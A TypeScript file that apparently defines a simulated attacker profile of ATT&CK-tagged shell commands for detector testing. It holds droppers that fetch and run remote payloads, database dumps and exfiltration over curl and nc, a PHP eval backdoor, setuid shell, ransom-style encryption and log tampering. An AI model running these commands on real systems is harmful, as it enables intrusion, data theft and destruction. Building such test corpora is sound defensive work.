import { sh } from './hand';
import type { Hand } from './hand';

/** A crew after money: copies data, plants its tools, mines, defaces. Other commands than the bots of the tuning half. */
export const crewB: Hand = {
  name: 'crew_b',
  commands: [
    sh(
      'dropper-fallback',
      'T1105',
      '(wget -qO /tmp/.dbus-d http://198.51.100.23/bot.x86_64 || curl -so /tmp/.dbus-d http://198.51.100.23/bot.x86_64 || busybox wget -O /tmp/.dbus-d http://198.51.100.23/bot.x86_64) && chmod 0755 /tmp/.dbus-d && /tmp/.dbus-d'
    ),
    sh('dropper-exec-here', 'T1105', 'bash <(curl -s http://198.51.100.23/ldr.sh)'),
    sh('dropper-variable', 'T1027', 'u=http://198.51.100.23/i.sh;c=curl;$c -s $u|sh'),
    sh(
      'dropper-memory',
      'T1620',
      "python3 -c \"import os,urllib.request as r;f=os.memfd_create('',1);os.write(f,r.urlopen('http://198.51.100.23/xmrig').read());os.execve(f'/proc/self/fd/{f}',['[kworker/0:0]'],{})\""
    ),
    sh(
      'dropper-dd',
      'T1105',
      'exec 3<>/dev/tcp/198.51.100.23/80; printf "GET /i.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^\\r$/d" <&3 | sh'
    ),
    sh(
      'miner-as-httpd',
      'T1496',
      'cp /bin/true {uploads}/httpd; {uploads}/httpd -a rx/0 -o 198.51.100.23:443 --tls -B'
    ),
    sh(
      'miner-screen',
      'T1496',
      'cd /var/tmp && cp /bin/true ./-bash && (setsid ./-bash -c pool.json >/dev/null 2>&1 &)'
    ),
    sh(
      'miner-cpus',
      'T1082',
      'lscpu | grep -E "Model name|^CPU\\(s\\)"; grep -c ^processor /proc/cpuinfo'
    ),
    sh(
      'competitors',
      'T1489',
      'for p in kdevtmpfsi kinsing xmrig; do pgrep $p | xargs -r kill -9; done; crontab -r'
    ),
    sh('cron-home', 'T1053.003', 'printf "@reboot /var/tmp/.dbus-d\\n" | crontab -'),
    sh('profile', 'T1546.004', 'echo "/var/tmp/.dbus-d &" >> ~/.profile'),
    sh(
      'data-dump',
      'T1005',
      'mysqldump -h 127.0.0.1 -u app -psecret shop orders customers | gzip > {uploads}/.d.gz'
    ),
    sh(
      'data-sqlite',
      'T1005',
      'find {app} -name "*.db" -o -name "*.sqlite*" | xargs -I@ cp @ /tmp/'
    ),
    sh(
      'data-pack',
      'T1560.001',
      'tar cf - {app} 2>/dev/null | gzip -1 | openssl enc -aes-256-cbc -pbkdf2 -k q > /tmp/.a.enc'
    ),
    sh(
      'data-post',
      'T1048',
      'curl -X POST -F "f=@/tmp/.a.enc" http://198.51.100.23:8000/in; rm /tmp/.a.enc'
    ),
    sh('data-nc', 'T1048', 'cat {config} | nc -w 2 198.51.100.23 9001'),
    sh(
      'mail-spam',
      'T1566',
      'printf "Subject: invoice\\n\\nhttp://evil.example\\n" | sendmail a@company.example b@company.example'
    ),
    sh('defacement', 'T1491.002', 'echo "<h1>owned</h1>" > {uploads}/index.html'),
    sh(
      'htaccess',
      'T1505.003',
      'printf "AddType application/x-httpd-php .png\\n" > {uploads}/.htaccess'
    ),
    sh(
      'backdoor-append',
      'T1505.003',
      `sed -i '1i <?php @eval(base64_decode($_COOKIE["q"]));?>' {uploads}/style.php`
    ),
    sh('backdoor-setuid', 'T1548.001', 'cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b; ls -l /tmp/.b'),
    sh(
      'ransom',
      'T1486',
      'for f in $(find {uploads} -name "*.jpg" | head -2); do openssl enc -aes-128-cbc -pbkdf2 -k z -in $f -out $f.lock; done'
    ),
    sh('rival-shells', 'T1083', 'grep -rlE "eval\\(|base64_decode|shell_exec" {root} | head'),
    sh('log-tamper', 'T1070.002', 'sed -i "/198.51.100.23/d" /var/log/*/access.log /var/log/*.log'),
  ],
};
